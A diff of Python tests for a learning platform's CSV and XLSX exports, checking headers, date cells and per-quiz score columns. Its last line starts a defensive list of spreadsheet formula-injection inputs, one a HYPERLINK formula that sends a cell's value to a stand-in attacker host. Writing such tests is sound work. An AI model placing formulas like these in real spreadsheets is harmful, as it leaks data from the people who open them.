@@ -4,7 +4,7 @@ from __future__ import annotations
 
 import csv
 import io
-from datetime import date
+from datetime import date, datetime
 from zoneinfo import ZoneInfo
 
 import openpyxl
@@ -177,18 +177,40 @@ def test_the_csv_response_starts_with_the_bom_before_any_row_is_read(client, aut
     assert rest.startswith('"姓名","手机号"'.encode()) and rest.count(b"\r\n") == 6
 
 
-def test_the_xlsx_opens_with_openpyxl_and_holds_the_same_rows(client, auth, county):
+def test_the_xlsx_holds_the_csv_rows_with_real_dates_and_a_column_per_quiz(client, auth, county):
     auth.login(county.admin)
     csv_rows = read_csv(post_export(client, header="en"))
     response = post_export(client, header="en", file_format="xlsx")
     assert response.status_code == 200
     assert response.mimetype == "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
-    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data()), read_only=True).active
+    sheet = openpyxl.load_workbook(io.BytesIO(response.get_data())).active
     xlsx_rows = [["" if v is None else v for v in row] for row in sheet.iter_rows(values_only=True)]
-    assert xlsx_rows[0] == csv_rows[0]
+    width = len(csv_rows[0])
+    assert xlsx_rows[0][:width] == csv_rows[0]
+    quiz_headers = xlsx_rows[0][width:]
+    assert quiz_headers and all(" · " in header for header in quiz_headers)  # several courses: course · quiz
     finished = csv_rows[0].index("Items finished")
     assert all(isinstance(row[finished], int) for row in xlsx_rows[1:]), "numbers stay numbers"
-    assert [[str(v) for v in row] for row in xlsx_rows] == csv_rows
+    dates = [csv_rows[0].index(name) for name in ("Enrolled at", "Last activity", "Completed at")]
+    for xlsx_row, csv_row in zip(xlsx_rows[1:], csv_rows[1:], strict=True):
+        for index in dates:  # a date cell, sortable, the same local moment the CSV writes as ISO text
+            expected = datetime.fromisoformat(csv_row[index]).replace(tzinfo=None) if csv_row[index] else ""
+            assert xlsx_row[index] == expected
+        rest = [i for i in range(width) if i not in dates]
+        assert [str(xlsx_row[i]) for i in rest] == [csv_row[i] for i in rest]
+    date_cell = sheet.cell(row=2, column=dates[0] + 1)
+    assert date_cell.is_date and date_cell.number_format == "yyyy-mm-dd hh:mm"
+    scored = next(row for row in xlsx_rows[1:]
+                  if row[0] == "吕振鸿" and row[csv_rows[0].index("Course code")] == "shop-basics")
+    assert 90 in scored[width:] and all(isinstance(v, int | float) or v == "" for v in scored[width:])
+
+
+def test_an_export_of_one_course_names_its_quiz_columns_by_quiz(client, auth, county):
+    auth.login(county.admin)
+    response = post_export(client, header="zh", file_format="xlsx", course=str(county.basics.id))
+    header = next(openpyxl.load_workbook(io.BytesIO(response.get_data())).active.iter_rows(values_only=True))
+    quiz_titles = [item.title("zh") for item in county.basics.items if item.is_quiz]
+    assert list(header[-len(quiz_titles):]) == quiz_titles and " · " not in header[-1]
 
 
 INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1",
